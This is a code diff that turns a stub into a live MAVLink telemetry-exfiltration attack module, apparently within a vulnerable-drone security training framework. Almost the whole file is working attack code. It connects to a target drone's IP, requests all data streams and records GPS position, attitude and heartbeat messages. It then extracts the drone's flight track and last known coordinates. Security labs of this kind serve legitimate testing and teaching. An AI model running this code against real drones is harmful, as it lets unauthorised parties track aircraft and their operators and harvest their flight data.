@@ -1,25 +1,126 @@
 # dvd_lite/dvd_attacks/exfiltration/telemetry_data.py
 """
-TelemetryDataExfiltration 공격 (더미 구현)
+TelemetryDataExfiltration 공격
+live=True면 대상에 REQUEST_DATA_STREAM을 보내 텔레메트리 스트림을 열고,
+duration초 동안 받은 GLOBAL_POSITION_INT / ATTITUDE / HEARTBEAT를 TelemetryStore에 열 단위로 기록한다.
+기록 후 저장소를 다시 열어 궤적 요약과 IOC를 만든다. live가 아니면 탈취를 시뮬레이션한다.
+
+주요 파라미터 (run_attack 키워드):
+    live, mavlink_port, capture_dir, duration, rate, chunk_rows
 """
 import asyncio
-import random
-from typing import Tuple, List, Dict, Any
+import tempfile
+from typing import Tuple, List, Dict, Any, Optional
 from ..core.attack_base import BaseAttack
 from ..core.enums import AttackType
+from ... import mavlink
+from ...clock import now
+from ...telemetry_store import TelemetryStore, TelemetryReader, NUMPY_AVAILABLE
+
+# MAVLink 메시지 → (저장소 메시지 종류, 열 형식, MAVLink 정수 단위의 배율)
+TELEMETRY_SCHEMA = {
+    "GLOBAL_POSITION_INT": ("position", {
+        "lat": ("i4", 1e7), "lon": ("i4", 1e7), "alt": ("i4", 1e3), "relative_alt": ("i4", 1e3),
+        "vx": ("i2", 1e2), "vy": ("i2", 1e2), "vz": ("i2", 1e2), "hdg": ("u2", 1e2)
+    }),
+    "ATTITUDE": ("attitude", {
+        "roll": "f4", "pitch": "f4", "yaw": "f4", "rollspeed": "f4", "pitchspeed": "f4", "yawspeed": "f4"
+    }),
+    "HEARTBEAT": ("heartbeat", {"custom_mode": "u4", "base_mode": "u1", "system_status": "u1"}),
+}
+
+MAV_DATA_STREAM_ALL = 0
 
 class TelemetryDataExfiltration(BaseAttack):
     """TelemetryDataExfiltration 공격"""
-    
+
     def _get_attack_type(self) -> AttackType:
-        return AttackType.RECONNAISSANCE  # 기본값
-    
+        return AttackType.EXFILTRATION
+
+    @classmethod
+    def expected_duration(cls, config: Dict[str, Any]) -> Optional[float]:
+        """live 수집은 duration초 동안 진행"""
+        if not config.get("live"):
+            return None
+        return config.get("duration", 10.0)
+
     async def _run_attack(self) -> Tuple[bool, List[str], Dict[str, Any]]:
-        """더미 공격 로직"""
-        await asyncio.sleep(random.uniform(1.0, 3.0))
-        
-        success = random.random() > 0.3
+        if not self.config.get("live") or not NUMPY_AVAILABLE:
+            return await self._simulate()
+
+        directory = self.config.get("capture_dir") or tempfile.mkdtemp(prefix="dvd_telemetry_")
+        target = (self.target_ip, self.config.get("mavlink_port", 14550))
+        rate = self.config.get("rate", 50)
+        duration = self.config.get("duration", 10.0)
+
+        store = TelemetryStore(directory, chunk_rows=self.config.get("chunk_rows", 8192))
+        for message_type, fields in TELEMETRY_SCHEMA.values():
+            store.declare(message_type, fields)
+        with store:
+            async with await mavlink.MAVLinkClient.connect(target) as client:
+                received = await self._capture(client, store, rate, duration)
+
+        details: Dict[str, Any] = {"capture_dir": directory, "received": received,
+                                   "capture": dict(store.statistics)}
+        with TelemetryReader(directory) as reader:
+            details["samples"] = {message_type: reader.rows(message_type) for message_type in reader.message_types()}
+            position = reader.read("position", ["lat", "lon", "relative_alt"])
+
+        samples = store.statistics["rows"]
+        iocs: List[str] = []
+        if samples:
+            iocs.append(f"TELEMETRY_CAPTURED:{self.target_ip}:{samples}_samples:{store.statistics['bytes_written']}_bytes")
+        if position and len(position["lat"]):
+            lat, lon = position["lat"], position["lon"]
+            details["track"] = {
+                "fixes": int(len(lat)),
+                "last": [round(float(lat[-1]), 7), round(float(lon[-1]), 7)],
+                "bounds": [round(float(lat.min()), 7), round(float(lon.min()), 7),
+                           round(float(lat.max()), 7), round(float(lon.max()), 7)],
+                "max_relative_alt": round(float(position["relative_alt"].max()), 2),
+            }
+            iocs.append(f"TELEMETRY_POSITION:{lat[-1]:.7f},{lon[-1]:.7f}")
+
+        details["success_rate"] = 1.0 if samples else 0.0
+        self.record_progress(iocs=iocs, **details)
+        return samples > 0, iocs, details
+
+    async def _capture(self, client: mavlink.MAVLinkClient, store: TelemetryStore,
+                       rate: int, duration: float) -> Dict[str, int]:
+        """스트림 요청 후 duration초 동안 받은 텔레메트리를 저장소에 추가"""
+        loop = asyncio.get_running_loop()
+        names = set(TELEMETRY_SCHEMA)
+        received = {name: 0 for name in names}
+
+        client.send("REQUEST_DATA_STREAM", req_message_rate=rate, target_system=1, target_component=1,
+                    req_stream_id=MAV_DATA_STREAM_ALL, start_stop=1)
+        deadline = loop.time() + duration
+        try:
+            while True:
+                remaining = deadline - loop.time()
+                if remaining <= 0:
+                    break
+                message = await client.recv(names, remaining)
+                if message is None:
+                    break
+                message_type, fields = TELEMETRY_SCHEMA[message.name]
+                values = {}
+                for name, spec in fields.items():
+                    scale = spec[1] if isinstance(spec, tuple) else None
+                    values[name] = message.fields[name] / scale if scale else message.fields[name]
+                store.append(message_type, now(), values)
+                received[message.name] += 1
+        finally:
+            client.send("REQUEST_DATA_STREAM", req_message_rate=0, target_system=1, target_component=1,
+                        req_stream_id=MAV_DATA_STREAM_ALL, start_stop=0)
+        return received
+
+    async def _simulate(self) -> Tuple[bool, List[str], Dict[str, Any]]:
+        """탈취 시뮬레이션"""
+        await asyncio.sleep(self.random.uniform(1.0, 3.0))
+
+        success = self.random.random() > 0.3
         iocs = [f"TELEMETRYDATAEXFILTRATION_IOC:dummy_indicator"]
         details = {"success_rate": 0.7 if success else 0.2}
-        
+
         return success, iocs, details